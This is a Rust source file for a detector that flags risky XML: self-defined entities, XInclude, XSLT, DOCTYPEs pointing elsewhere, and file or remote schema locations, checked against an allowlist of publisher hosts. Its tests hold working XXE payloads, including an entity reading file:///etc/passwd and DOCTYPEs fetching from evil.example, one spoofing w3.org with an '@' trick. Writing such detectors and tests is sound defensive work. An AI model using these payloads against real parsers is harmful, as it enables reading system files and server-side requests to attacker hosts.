//! Entities of XML: would a parser fetch, read or multiply something for the sender?

use super::marks::Group;
use super::{Hit, Text};
use crate::decision::Class;

pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    if !text.bytes.has(b'<') || !text.marks.has(Group::Xml) {
        return None;
    }
    let lower = text.lower;
    let hit = |at: usize, why: &'static str| Some(Hit { class: Class::Xxe, at, why: why.into() });
    for (mark, why) in [
        (&b"<!entity"[..], "an entity that the document defines itself"),
        (b"<xi:include", "a document that includes another"),
        (b"<?xml-stylesheet", "a stylesheet that the document brings along"),
        (b"<xsl:stylesheet", "a program in XSLT"),
        (b"<xsl:transform", "a program in XSLT"),
    ] {
        if let Some(at) = memchr::memmem::find(lower, mark)
            && (mark != b"<?xml-stylesheet" || memchr::memmem::find(lower, b"href").is_some())
        {
            return hit(at, why);
        }
    }
    // The namespace of inclusions, whatever prefix it was given.
    if let Some(at) = memchr::memmem::find(lower, b"www.w3.org/2001/xinclude")
        && memchr::memmem::find(lower, b":include").is_some()
    {
        return hit(at, "a document that includes another");
    }
    for at in memchr::memmem::find_iter(lower, b"<!doctype") {
        if !text.spend(400) {
            return None;
        }
        let rest = lower.get(at + 9..).unwrap_or_default();
        let head = rest.get(..512).unwrap_or(rest);
        let declaration = head.split(|b| *b == b'>').next().unwrap_or_default();
        let external =
            [&b" system"[..], b" public"].iter().any(|w| memchr::memmem::find(declaration, w).is_some());
        if external && !is_published(declaration) {
            return hit(at, "a document type from elsewhere");
        }
    }
    for mark in [
        &b"schemalocation=\""[..],
        b"schemalocation='",
        b"xlink:href=\"file:",
        b"href=\"file:",
        b"href='file:",
    ] {
        for at in memchr::memmem::find_iter(lower, mark) {
            let value = lower.get(at + mark.len()..).unwrap_or_default();
            let value = value.split(|b| matches!(b, b'"' | b'\'')).next().unwrap_or_default();
            if !text.spend(40 + value.len()) {
                return None;
            }
            let mut places = value.split(u8::is_ascii_whitespace);
            let file = mark.ends_with(b"file:") || places.any(|p| p.starts_with(b"file:"));
            // One address alone is where to fetch from; pairs name a namespace first.
            let foreign =
                memchr::memmem::find(lower.get(at.saturating_sub(64)..at).unwrap_or_default(), b"import")
                    .is_some()
                    && value.starts_with(b"http");
            // Locations come in pairs: a namespace, and where its schema lies. One alone is only there to be fetched.
            let before = lower.get(..at).unwrap_or_default();
            let lone = before.ends_with(b":")
                && (value.starts_with(b"http") || value.starts_with(b"ftp"))
                && value.trim_ascii().iter().all(|b| !b.is_ascii_whitespace());
            if file || foreign || lone {
                return hit(at, "a schema or picture that the parser reads from elsewhere");
            }
        }
    }
    None
}

/// A document type of those who publish one for everybody, by its address; or by its public name, where it is not said where
/// it lies or it lies beside the parser.
fn is_published(declaration: &[u8]) -> bool {
    let quote = |b: &u8| matches!(b, b'"' | b'\'');
    let last = declaration.split(quote).rev().nth(1).unwrap_or_default();
    let address = [&b"http://"[..], b"https://"].iter().find_map(|scheme| last.strip_prefix(*scheme));
    if let Some(address) = address {
        let host = address.split(|b| *b == b'/').next().unwrap_or_default();
        return PUBLISHERS.contains(&host);
    }
    let elsewhere = last.contains(&b':') || matches!(last.first(), Some(b'/' | b'\\' | b'.'));
    let named = memchr::memmem::find(declaration, b"-//w3c//").is_some();
    named && (!elsewhere || last.starts_with(b"-//w3c//")) || last == b"about:legacy-compat"
}

/// Hosts of those who publish document types, and let nobody else put one there.
const PUBLISHERS: &[&[u8]] = &[
    b"www.w3.org",
    b"w3.org",
    b"www.apple.com",
    b"xml.cxml.org",
    b"www.oasis-open.org",
    b"docbook.org",
    b"java.sun.com",
    b"xmlns.jcp.org",
    b"hibernate.org",
    b"www.hibernate.org",
    b"hibernate.sourceforge.net",
    b"mybatis.org",
    b"struts.apache.org",
    b"www.springframework.org",
    b"jats.nlm.nih.gov",
    b"dtd.nlm.nih.gov",
    b"www.ncbi.nlm.nih.gov",
];

/// Without one of these there is nothing to look at.
pub(super) const WORDS: &[&[u8]] = &[
    b"<!entity",
    b"<xi:include",
    b"www.w3.org/2001/xinclude",
    b"<?xml-stylesheet",
    b"<xsl:stylesheet",
    b"<xsl:transform",
    b"<!doctype",
    b"schemalocation=",
    b"href=\"file:",
    b"href='file:",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::sample;

    #[test]
    fn documents_that_reach_out() {
        for text in [
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
            "<!DOCTYPE r SYSTEM \"http://evil.example/www.w3.org/x.dtd\"><r/>",
            "<!DOCTYPE r PUBLIC \"-//W3C//DTD x//EN\" \"http://evil.example/x.dtd\"><r/>",
            "<!DOCTYPE r SYSTEM \"http://www.w3.org@evil.example/x.dtd\"><r/>",
            "<!DOCTYPE r SYSTEM \"http://10.0.0.3/cXML.dtd\"><r/>",
            "<!DOCTYPE r SYSTEM \"file:///etc/passwd\"><r/>",
            "<!DOCTYPE r PUBLIC \"-//W3C//DTD x//EN\" \"/etc/passwd\"><r/>",
            "<!DOCTYPE x SYSTEM \"//x/x\" > <x>a</x>",
            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></r>",
            "<r xsi:noNamespaceSchemaLocation=\"file:///etc/passwd\"/>",
            "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://evil.example/\"/>",
        ] {
            assert!(sample(detect, text), "{text}");
        }
    }

    #[test]
    fn documents_that_stay() {
        for text in [
            "<!DOCTYPE html><html><p>Hi</p></html>",
            "<?xml version=\"1.0\"?><order id=\"7\"/>",
            "<r a='1'><!-- DOCTYPE not used here --></r>",
            "<config><include name=\"common\"/><entity type=\"c\"/></config>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "<!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd\"><cXML/>",
            "<!DOCTYPE html SYSTEM 'about:legacy-compat'><html/>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01//EN\"><html/>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"xhtml1-strict.dtd\"><html/>",
            "<p xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd\"/>",
        ] {
            assert!(!sample(detect, text), "{text}");
        }
    }
}
